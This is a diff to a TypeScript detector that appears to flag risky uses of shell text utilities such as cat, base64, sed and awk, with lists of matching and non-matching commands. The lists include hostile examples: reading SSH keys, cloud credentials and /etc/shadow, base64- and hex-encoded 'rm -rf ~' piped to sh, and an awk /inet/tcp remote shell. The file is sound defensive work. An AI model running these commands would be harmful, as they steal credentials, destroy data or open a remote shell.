@@ -1,24 +1,35 @@
 import type { Call } from '../call.js';
 import { type Data, data, isKnown, mixed, unknownData } from '../flow.js';
 import { hasUnknown, UNKNOWN } from '../marks.js';
-import { basename, dirname } from '../paths.js';
 import { isSecret } from '../path-policy.js';
+import { basename, dirname } from '../paths.js';
 import type { Program } from '../program.js';
 import { decodeEscapes } from '../resolve/escapes.js';
-import { whereIs } from './builtins.js';
 import { awk, awkOutput } from './awk.js';
+import { whereIs } from './builtins.js';
 import { sed, sedOutput } from './sed.js';
 
 /** The content that a filter reads: its files where they are known, else its input. */
 export function inputOf(call: Call, files: readonly { readonly raw: string }[]): Data {
   if (files.length === 0) return call.stdin ?? unknownData;
-  const contents = files.map((file) => (file.raw === '-' ? (call.stdin ?? unknownData) : (call.at.written(call.path(file.raw)) ?? call.at.descriptor(call.path(file.raw)) ?? data(undefined, isSecret(call.path(file.raw)) || /^\/(?:etc|root|proc|var)\//.test(call.path(file.raw)) ? 'secret' : 'file'))));
+  const contents = files.map((file) =>
+    file.raw === '-'
+      ? (call.stdin ?? unknownData)
+      : (call.at.written(call.path(file.raw)) ??
+        call.at.descriptor(call.path(file.raw)) ??
+        data(undefined, isSecret(call.path(file.raw)) || /^\/(?:etc|root|proc|var)\//.test(call.path(file.raw)) ? 'secret' : 'file')),
+  );
   const sources = mixed(...contents);
   return { text: contents.every(isKnown) ? contents.map((content) => content.text).join('') : undefined, sources };
 }
 
 /** Output of a filter over its input. Undefined when the input, or what is done to it, is unknown. */
-function filtered(call: Call, files: readonly { readonly raw: string }[], change: (text: string) => string | undefined, decodes = false): Data {
+function filtered(
+  call: Call,
+  files: readonly { readonly raw: string }[],
+  change: (text: string) => string | undefined,
+  decodes = false,
+): Data {
   const input = inputOf(call, files);
   const sources = decodes ? new Set([...input.sources, 'decoded' as const]) : input.sources;
   if (!isKnown(input)) return { text: undefined, sources };
@@ -42,13 +53,21 @@ function fromBase32(text: string): string {
   return utf8(Uint8Array.from(bytes));
 }
 
-const fromHex = (text: string): string => utf8(Uint8Array.from((text.replace(/\s|0x|\\x/g, '').match(/[0-9a-fA-F]{2}/g) ?? []).map((pair) => Number.parseInt(pair, 16))));
+const fromHex = (text: string): string =>
+  utf8(Uint8Array.from((text.replace(/\s|0x|\\x/g, '').match(/[0-9a-fA-F]{2}/g) ?? []).map((pair) => Number.parseInt(pair, 16))));
 const fromBase64 = (text: string): string => utf8(Uint8Array.from(Buffer.from(text, 'base64')));
 
 /** A set of `tr`, with ranges and escapes written out. */
 function characterSet(text: string): string[] | undefined {
   if (/\[:|\[=/.test(text)) {
-    const named: Readonly<Record<string, string>> = { '[:lower:]': 'a-z', '[:upper:]': 'A-Z', '[:digit:]': '0-9', '[:alpha:]': 'A-Za-z', '[:alnum:]': '0-9A-Za-z', '[:space:]': ' \t\n' };
+    const named: Readonly<Record<string, string>> = {
+      '[:lower:]': 'a-z',
+      '[:upper:]': 'A-Z',
+      '[:digit:]': '0-9',
+      '[:alpha:]': 'A-Za-z',
+      '[:alnum:]': '0-9A-Za-z',
+      '[:space:]': ' \t\n',
+    };
     return named[text] === undefined ? undefined : characterSet(named[text] as string);
   }
   const plain = decodeEscapes(text);
@@ -67,7 +86,9 @@ function translated(call: Call, text: string): string | undefined {
   const [from, to] = [characterSet(call.operand(0) ?? ''), characterSet(call.operand(1) ?? '')];
   if (!from || !to || call.has('-c -C -s')) return undefined;
   if (call.has('-d')) return [...text].filter((character) => !from.includes(character)).join('');
-  return [...text].map((character) => (from.includes(character) ? (to[from.indexOf(character)] ?? to[to.length - 1] ?? character) : character)).join('');
+  return [...text]
+    .map((character) => (from.includes(character) ? (to[from.indexOf(character)] ?? to[to.length - 1] ?? character) : character))
+    .join('');
 }
 
 function cut(call: Call, text: string): string | undefined {
@@ -79,14 +100,22 @@ function cut(call: Call, text: string): string | undefined {
   const from = Number(range[1] || 1) - 1;
   const end = range[2] ? (range[3] ? Number(range[3]) : undefined) : from + 1;
   const delimiter = value('-d --delimiter') ?? '\t';
-  return text.split('\n').map((line) => (options.some((option) => /^-(?:f|-fields)$/.test(option.name)) ? line.split(delimiter).slice(from, end).join(delimiter) : line.slice(from, end))).join('\n');
+  return text
+    .split('\n')
+    .map((line) =>
+      options.some((option) => /^-(?:f|-fields)$/.test(option.name))
+        ? line.split(delimiter).slice(from, end).join(delimiter)
+        : line.slice(from, end),
+    )
+    .join('\n');
 }
 
 function linesOf(call: Call, text: string): string {
   const bytes = call.value('-c --bytes')?.text;
   const count = call.value('-n --lines')?.text ?? call.options.find((option) => /^-\d+$/.test(option.name))?.name.slice(1) ?? '10';
   const wanted = Math.abs(Number(bytes ?? count));
-  if (bytes !== undefined) return call.name === 'head' ? text.slice(0, wanted) : bytes.startsWith('+') ? text.slice(wanted - 1) : text.slice(-wanted);
+  if (bytes !== undefined)
+    return call.name === 'head' ? text.slice(0, wanted) : bytes.startsWith('+') ? text.slice(wanted - 1) : text.slice(-wanted);
   const lines = text.replace(/\n$/, '').split('\n');
   const kept = call.name === 'head' ? lines.slice(0, wanted) : count.startsWith('+') ? lines.slice(wanted - 1) : lines.slice(-wanted);
   return `${kept.join('\n')}\n`;
@@ -102,7 +131,10 @@ export const text: readonly Program[] = [
     options: { style: 'none' },
     output: (call) => {
       const flags = call.args.findIndex((arg) => !/^-[neE]+$/.test(arg.raw));
-      const options = call.args.slice(0, flags < 0 ? undefined : flags).map((arg) => arg.raw).join('');
+      const options = call.args
+        .slice(0, flags < 0 ? undefined : flags)
+        .map((arg) => arg.raw)
+        .join('');
       const joined = (flags < 0 ? [] : call.args.slice(flags)).map((arg) => arg.raw).join(' ');
       const value = `${options.includes('e') ? decodeEscapes(joined) : joined}${options.includes('n') ? '' : '\n'}`;
       return hasUnknown(value) ? data(value, 'unknown') : data(value, 'literal');
@@ -114,11 +146,25 @@ export const text: readonly Program[] = [
     names: ['cat', 'tac', 'nl', 'bat', 'batcat', 'gcat', 'zcat', 'bzcat', 'xzcat', 'gzcat', 'lz4cat', 'zstdcat'],
     options: { values: '-b -w -s -v -H -l -r --language --line-range --style --theme --paging --color --pager' },
     shows: true,
-    rules: [{ id: 'option.runs', reach: 'anything', option: '--pager', reason: 'One of its options runs another program.', test: (call) => /^bat/.test(call.name) && !/^(?:never|less|cat)/.test(call.value('--pager')?.text ?? '') }],
+    rules: [
+      {
+        id: 'option.runs',
+        reach: 'anything',
+        option: '--pager',
+        reason: 'One of its options runs another program.',
+        test: (call) => /^bat/.test(call.name) && !/^(?:never|less|cat)/.test(call.value('--pager')?.text ?? ''),
+      },
+    ],
     output: (call) => {
       if (call.name === 'cat') return filtered(call, call.operands, (value) => (call.options.length === 0 ? value : undefined));
-      if (call.name === 'tac') return filtered(call, call.operands, (value) => `${value.replace(/\n$/, '').split('\n').reverse().join('\n')}\n`);
-      return { text: undefined, sources: /^(?:z|bz|xz|gz|lz4)/.test(call.name) ? new Set([...inputOf(call, call.operands).sources, 'decoded' as const]) : inputOf(call, call.operands).sources };
+      if (call.name === 'tac')
+        return filtered(call, call.operands, (value) => `${value.replace(/\n$/, '').split('\n').reverse().join('\n')}\n`);
+      return {
+        text: undefined,
+        sources: /^(?:z|bz|xz|gz|lz4)/.test(call.name)
+          ? new Set([...inputOf(call, call.operands).sources, 'decoded' as const])
+          : inputOf(call, call.operands).sources,
+      };
     },
     match: ['cat ~/.ssh/id_rsa', 'cat ~/.aws/credentials', 'bat --pager ./x f', 'cat /etc/shadow', 'cat /proc/1/environ', 'zcat x.gz | sh'],
     not_match: ['cat README.md', 'cat /etc/hosts', 'cat ~/.ssh/id_rsa.pub', "cat <<'END'\nrm -rf /\nEND", 'cat .env.example'],
@@ -136,33 +182,66 @@ export const text: readonly Program[] = [
     options: { values: '-o -O -k -p -t -T -P -x -y -z -b -h -j --log-file --LOG-FILE --lesskey-src --lesskey-file' },
     shows: true,
     rules: [
-      { id: 'option.runs', reach: 'anything', reason: 'It runs commands when it starts.', test: (call) => call.args.some((arg) => /^\+.*[!|]/.test(arg.raw)) },
-      { id: 'option.reads', reach: 'filesystem', option: '-k --lesskey-src --lesskey-file', reason: 'It takes key bindings from a file, which can run programs.' },
+      {
+        id: 'option.runs',
+        reach: 'anything',
+        reason: 'It runs commands when it starts.',
+        test: (call) => call.args.some((arg) => /^\+.*[!|]/.test(arg.raw)),
+      },
+      {
+        id: 'option.reads',
+        reach: 'filesystem',
+        option: '-k --lesskey-src --lesskey-file',
+        reason: 'It takes key bindings from a file, which can run programs.',
+      },
     ],
-    check: (call) => void call.values('-o -O --log-file --LOG-FILE').forEach((file) => {
-      call.report('option.writes', 'filesystem', `It writes a copy to ${file.text}.`);
-      call.writes(file);
-    }),
+    check: (call) =>
+      void call.values('-o -O --log-file --LOG-FILE').forEach((file) => {
+        call.report('option.writes', 'filesystem', `It writes a copy to ${file.text}.`);
+        call.writes(file);
+      }),
     match: ["less '+!id' f", 'less -o ~/.bashrc f', 'more ~/.pgpass'],
     not_match: ['less README.md', 'more +10 a.txt'],
   },
   {
     names: ['man', 'info', 'apropos', 'whatis'],
     options: { values: '-P -H -C -M -S -s -L -m -e -R -T -p --pager --html --config-file' },
-    rules: [{ id: 'option.runs', reach: 'anything', option: '-P --pager -H --html -C --config-file', reason: 'One of its options runs another program.', test: (call) => !/^(?:cat|less)$/.test(call.value('-P --pager')?.text ?? '') }],
+    rules: [
+      {
+        id: 'option.runs',
+        reach: 'anything',
+        option: '-P --pager -H --html -C --config-file',
+        reason: 'One of its options runs another program.',
+        test: (call) => !/^(?:cat|less)$/.test(call.value('-P --pager')?.text ?? ''),
+      },
+    ],
     match: ['man -P ./x ls', 'man --html=./x ls', 'man -C ./conf ls'],
     not_match: ['man git', 'man -P cat ls', 'apropos halt', 'man 5 crontab'],
   },
   {
     names: ['sort', 'gsort'],
-    options: { values: '-k -t -o -S -T --key --field-separator --output --buffer-size --temporary-directory --compress-program --files0-from --parallel --batch-size --random-source' },
+    options: {
+      values:
+        '-k -t -o -S -T --key --field-separator --output --buffer-size --temporary-directory --compress-program --files0-from --parallel --batch-size --random-source',
+    },
     shows: true,
-    rules: [{ id: 'option.runs', reach: 'anything', option: '--compress-program', reason: 'One of its options runs another program.', test: (call) => !/^(?:gzip|bzip2|xz|zstd|lz4|pigz)$/.test(call.value('--compress-program')?.text ?? '') }],
+    rules: [
+      {
+        id: 'option.runs',
+        reach: 'anything',
+        option: '--compress-program',
+        reason: 'One of its options runs another program.',
+        test: (call) => !/^(?:gzip|bzip2|xz|zstd|lz4|pigz)$/.test(call.value('--compress-program')?.text ?? ''),
+      },
+    ],
     check: (call) => {
       for (const file of call.values('-o --output')) call.writes(file);
       for (const file of call.values('--files0-from')) call.reads(file);
     },
-    output: (call) => filtered(call, call.operands, (value) => (call.options.length === 0 ? `${value.replace(/\n$/, '').split('\n').sort().join('\n')}\n` : undefined)),
+    output: (call) =>
+      filtered(call, call.operands, (value) =>
+        call.options.length === 0 ? `${value.replace(/\n$/, '').split('\n').sort().join('\n')}\n` : undefined,
+      ),
     match: ['sort --compress-prog=./x big', 'sort -o ~/.profile f', 'sort --output=/etc/hosts f'],
     not_match: ['sort -u a.txt', 'sort -k2 -n data.tsv -o sorted.tsv', 'sort -rf names'],
   },
@@ -173,7 +252,10 @@ export const text: readonly Program[] = [
       if (call.operands[0]) call.reads(call.operands[0]);
       if (call.operands[1]) call.writes(call.operands[1]);
     },
-    output: (call) => (call.name === 'xxd' && call.options.some((option) => option.name === '-r') ? filtered(call, call.operands, fromHex, true) : { text: undefined, sources: inputOf(call, call.operands).sources }),
+    output: (call) =>
+      call.name === 'xxd' && call.options.some((option) => option.name === '-r')
+        ? filtered(call, call.operands, fromHex, true)
+        : { text: undefined, sources: inputOf(call, call.operands).sources },
     match: ['uniq f ~/.bashrc', 'echo 726d202d7266207e0a | xxd -r -p | sh', 'xxd ~/.ssh/id_rsa'],
     not_match: ['sort a | uniq -c', 'xxd a.bin | head'],
   },
@@ -181,15 +263,18 @@ export const text: readonly Program[] = [
     names: ['base64', 'base32', 'basenc', 'gbase64', 'uudecode', 'base58', 'base91'],
     options: { values: '-w -i -o --wrap --input --output' },
     shows: true,
-    check: (call) => void call.values('-o --output').forEach((file) => {
-      call.report('option.writes', 'filesystem', `One of its options writes to ${file.text}.`);
-      call.writes(file);
-    }),
+    check: (call) =>
+      void call.values('-o --output').forEach((file) => {
+        call.report('option.writes', 'filesystem', `One of its options writes to ${file.text}.`);
+        call.writes(file);
+      }),
     output: (call) => {
       const decodes = call.has('-d -D --decode') || call.name === 'uudecode';
       if (!decodes) return { text: undefined, sources: inputOf(call, call.operands).sources };
       if (call.name === 'base64' || call.name === 'gbase64') return filtered(call, call.operands, fromBase64, true);
-      return call.name === 'base32' ? filtered(call, call.operands, fromBase32, true) : { text: undefined, sources: new Set([...inputOf(call, call.operands).sources, 'decoded' as const]) };
+      return call.name === 'base32'
+        ? filtered(call, call.operands, fromBase32, true)
+        : { text: undefined, sources: new Set([...inputOf(call, call.operands).sources, 'decoded' as const]) };
     },
     match: ['echo cm0gLXJmIH4= | base64 -d | sh', 'base64 ~/.ssh/id_rsa', 'base64 -o x f', 'base64 -d x | bash'],
     not_match: ['echo hi | base64', 'base64 -d data.b64 > data.bin', 'echo aGk= | base64 --decode'],
@@ -203,7 +288,16 @@ export const text: readonly Program[] = [
         case 'gtr':
           return filtered(call, [], (value) => translated(call, value), true);
         case 'rev':
-          return filtered(call, call.operands, (value) => value.split('\n').map((one) => [...one].reverse().join('')).join('\n'), true);
+          return filtered(
+            call,
+            call.operands,
+            (value) =>
+              value
+                .split('\n')
+                .map((one) => [...one].reverse().join(''))
+                .join('\n'),
+            true,
+          );
         default:
           return filtered(call, call.parsed(cutOptions).operands, (value) => cut(call, value));
       }
@@ -212,40 +306,151 @@ export const text: readonly Program[] = [
     not_match: ['tr a-z A-Z < a.txt', 'cut -d: -f1 /etc/passwd', 'rev names.txt'],
   },
   {
-    names: ['jq', 'yq', 'od', 'hexdump', 'hd', 'strings', 'diff', 'colordiff', 'comm', 'cmp', 'paste', 'join', 'fold', 'fmt', 'pr', 'column', 'iconv', 'dos2unix', 'xmllint', 'gron', 'dasel', 'mlr', 'csvcut', 'glow', 'delta', 'split', 'csplit', 'date', 'file', 'shuf', 'look', 'sdiff', 'diff3'],
-    options: { values: '-f -L -o -i -t -d -n -s -w -c -l -N -j -m --from-file --rawfile --slurpfile --arg --argjson --indent --output --files-from --magic-file --date --reference --set --filter --diff-program --lines --bytes' },
+    names: [
+      'jq',
+      'yq',
+      'od',
+      'hexdump',
+      'hd',
+      'strings',
+      'diff',
+      'colordiff',
+      'comm',
+      'cmp',
+      'paste',
+      'join',
+      'fold',
+      'fmt',
+      'pr',
+      'column',
+      'iconv',
+      'dos2unix',
+      'xmllint',
+      'gron',
+      'dasel',
+      'mlr',
+      'csvcut',
+      'glow',
+      'delta',
+      'split',
+      'csplit',
+      'date',
+      'file',
+      'shuf',
+      'look',
+      'sdiff',
+      'diff3',
+    ],
+    options: {
+      values:
+        '-f -L -o -i -t -d -n -s -w -c -l -N -j -m --from-file --rawfile --slurpfile --arg --argjson --indent --output --files-from --magic-file --date --reference --set --filter --diff-program --lines --bytes',
+    },
     shows: true,
     rules: [
       { id: 'option.runs', reach: 'anything', option: '--filter --diff-program', reason: 'One of its options runs another program.' },
-      { id: 'sys.clock', reach: 'host', option: '-s --set', reason: 'It sets the clock of the machine.', test: (call) => call.name === 'date' },
-      { id: 'option.writes', reach: 'filesystem', option: '-C --compile', reason: 'It writes a compiled file.', test: (call) => call.name === 'file' },
+      {
+        id: 'sys.clock',
+        reach: 'host',
+        option: '-s --set',
+        reason: 'It sets the clock of the machine.',
+        test: (call) => call.name === 'date',
+      },
+      {
+        id: 'option.writes',
+        reach: 'filesystem',
+        option: '-C --compile',
+        reason: 'It writes a compiled file.',
+        test: (call) => call.name === 'file',
+      },
     ],
     check: (call) => {
-      if (/^(?:jq|yq|file|date)$/.test(call.name)) for (const file of call.values('-f --from-file --rawfile --slurpfile --files-from -m --magic-file --reference')) call.reads(file);
+      if (/^(?:jq|yq|file|date)$/.test(call.name))
+        for (const file of call.values('-f --from-file --rawfile --slurpfile --files-from -m --magic-file --reference')) call.reads(file);
       if (/^(?:shuf|iconv)$/.test(call.name)) for (const file of call.values('-o --output')) call.writes(file);
       if (call.name === 'yq' && call.has('-i --inplace')) for (const file of call.operands.slice(-1)) call.writes(file);
     },
-    match: ["split --filter='sh -c id' f", 'jq . ~/.aws/credentials', 'date -s 2020-01-01', 'date -f /etc/shadow', 'strings ~/.ssh/id_rsa', 'sdiff --diff-program=./x a b', 'file -f ~/.netrc', 'shuf -o ~/.bashrc f'],
-    not_match: ['jq -r .name package.json', 'diff -u a b', 'date +%s', 'strings a.out', 'column -t a.tsv', 'file a.out', 'split -l 100 big part-'],
+    match: [
+      "split --filter='sh -c id' f",
+      'jq . ~/.aws/credentials',
+      'date -s 2020-01-01',
+      'date -f /etc/shadow',
+      'strings ~/.ssh/id_rsa',
+      'sdiff --diff-program=./x a b',
+      'file -f ~/.netrc',
+      'shuf -o ~/.bashrc f',
+    ],
+    not_match: [
+      'jq -r .name package.json',
+      'diff -u a b',
+      'date +%s',
+      'strings a.out',
+      'column -t a.tsv',
+      'file a.out',
+      'split -l 100 big part-',
+    ],
   },
   {
     names: ['sed', 'gsed'],
     options: { values: '-e -f -l -E -s --expression --file --line-length' },
     check: sed,
     output: sedOutput,
-    match: ["sed -i s/a/b/ ~/.bashrc", "sed '1e id' f", "sed 's/a/b/we out' f", "sed -n 'w out' f", "sed --expression='s/x/id/e' f", 'sed -n p ~/.netrc', "sed -f /tmp/x.sed f"],
-    not_match: ["sed -i 's/a/b/g' src/a.ts", "sed -n '10,20p' a.ts", "sed -e 's/w/e/' -e '/rm -rf/d' f", "sed 's|/etc/passwd|x|' f", "sed 's/hello/world/' < a > b", "sed '/^#/d' f"],
+    match: [
+      'sed -i s/a/b/ ~/.bashrc',
+      "sed '1e id' f",
+      "sed 's/a/b/we out' f",
+      "sed -n 'w out' f",
+      "sed --expression='s/x/id/e' f",
+      'sed -n p ~/.netrc',
+      'sed -f /tmp/x.sed f',
+    ],
+    not_match: [
+      "sed -i 's/a/b/g' src/a.ts",
+      "sed -n '10,20p' a.ts",
+      "sed -e 's/w/e/' -e '/rm -rf/d' f",
+      "sed 's|/etc/passwd|x|' f",
+      "sed 's/hello/world/' < a > b",
+      "sed '/^#/d' f",
+    ],
   },
   {
     names: ['awk', 'gawk', 'mawk', 'nawk', 'original-awk', 'goawk'],
     options: { values: '-f -v -F -i -l -e -E -o -d -p --file --assign --field-separator --include --load --source --exec', stop: true },
     check: awk,
     output: awkOutput,
-    match: [`awk 'BEGIN{system("id")}'`, `awk '{print > "/etc/hosts"}' f`, `awk '{print | "sh"}' f`, `awk 'BEGIN{"id" | getline x}'`, 'awk 1 ~/.netrc', 'gawk -l ./x.so 1', `awk 'BEGIN{s="/inet/tcp/0/h.example/9"; while(1){s |& getline c; c |& getline}}'`],
-    not_match: [`awk '{print $1, $NF}' f`, `awk -F: '/rm -rf/ {n++} END {print n}' f`, `awk '$3 > 10' f`, `awk '{a[$1]++} END {for (k in a) print k, a[k]}' f`, `awk '{print $2 > "out.txt"}' f`],
+    match: [
+      `awk 'BEGIN{system("id")}'`,
+      `awk '{print > "/etc/hosts"}' f`,
+      `awk '{print | "sh"}' f`,
+      `awk 'BEGIN{"id" | getline x}'`,
+      'awk 1 ~/.netrc',
+      'gawk -l ./x.so 1',
+      `awk 'BEGIN{s="/inet/tcp/0/h.example/9"; while(1){s |& getline c; c |& getline}}'`,
+    ],
+    not_match: [
+      `awk '{print $1, $NF}' f`,
+      `awk -F: '/rm -rf/ {n++} END {print n}' f`,
+      `awk '$3 > 10' f`,
+      `awk '{a[$1]++} END {for (k in a) print k, a[k]}' f`,
+      `awk '{print $2 > "out.txt"}' f`,
+    ],
   },
   {
-    names: ['basename', 'dirname', 'realpath', 'readlink', 'pwd', 'whoami', 'id', 'which', 'whereis', 'hostname', 'logname', 'uname', 'nproc', 'arch'],
+    names: [
+      'basename',
+      'dirname',
+      'realpath',
+      'readlink',
+      'pwd',
+      'whoami',
+      'id',
+      'which',
+      'whereis',
+      'hostname',
+      'logname',
+      'uname',
+      'nproc',
+      'arch',
+    ],
     options: { values: '-s --suffix' },
     output: (call) => {
       const operand = call.operands[0]?.raw;
@@ -267,9 +472,15 @@ export const text: readonly Program[] = [
           return undefined;
       }
     },
-    rules: [{ id: 'sys.hostname', reach: 'host', reason: 'It renames the machine.', test: (call) => call.name === 'hostname' && call.operands.length > 0 && call.options.length === 0 }],
+    rules: [
+      {
+        id: 'sys.hostname',
+        reach: 'host',
+        reason: 'It renames the machine.',
+        test: (call) => call.name === 'hostname' && call.operands.length > 0 && call.options.length === 0,
+      },
+    ],
     match: ['rm -rf "$(dirname ~/x)"', '$(which rm) -rf ~', 'hostname evil'],
     not_match: ['basename a/b.txt .txt', 'which node', 'hostname -f', 'uname -a'],
   },
 ];
-
